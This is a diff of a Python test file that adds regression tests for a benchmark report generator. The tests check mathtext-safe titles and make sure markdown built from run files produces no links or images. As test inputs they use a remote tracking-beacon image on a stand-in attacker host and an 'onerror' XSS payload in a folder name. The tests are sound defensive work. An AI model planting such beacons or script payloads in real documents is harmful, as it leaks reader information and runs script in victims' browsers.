@@ -341,3 +341,32 @@ def test_a_slurm_record_that_is_not_an_object_is_no_record(tmp_path):
     folder.mkdir(parents=True)
     (folder / "run-x.json").write_text("[1, 2, 3]")
     assert slurm.read_record(tmp_path, "run-x") is None
+
+
+def test_a_method_name_with_a_formula_draws_as_text(tmp_path):
+    """Issue 45, item 6: `ccvae$\\foo{$` in a t-SNE title made `bench report` fail in
+    matplotlib's mathtext parser. Text from run files is never parsed as a formula."""
+    import numpy as np
+    from bench import drawing
+    figure, ax = drawing.plt.subplots()
+    ax.set_title("ccvae$\\foo{$")
+    ax.plot(np.arange(3))
+    figure.savefig(tmp_path / "title.png")
+    drawing.plt.close(figure)
+    assert (tmp_path / "title.png").stat().st_size > 0
+
+
+def test_markdown_text_from_run_files_makes_no_link_and_no_image(tmp_path):
+    """Issue 45, item 2: a failed run's reason `![x](https://attacker.example/beacon.png)` rendered
+    as a remote image in report.md, and a run folder named `x)<img ...>(` gave live tags in a
+    figure's link."""
+    import re
+    from bench.sections.blocks import Figure
+    beacon = "![x](https://attacker.example/beacon.png?who=victim) [click](https://a.example)"
+    folder = tmp_path / "x)<img src=x onerror=alert(1)>("
+    folder.mkdir()
+    text = to_markdown([Paragraph(beacon), Figure(folder / "curves.png", "curves", 400)], tmp_path)
+    assert not re.search(r"!\[[^\]]*\]\(", text.replace("![curves](", ""))
+    assert not re.search(r"\]\(https?:", text)
+    assert "<img" not in text
+    assert "![curves](x%29%3Cimg%20src%3Dx%20onerror%3Dalert%281%29%3E%28/curves.png)" in text
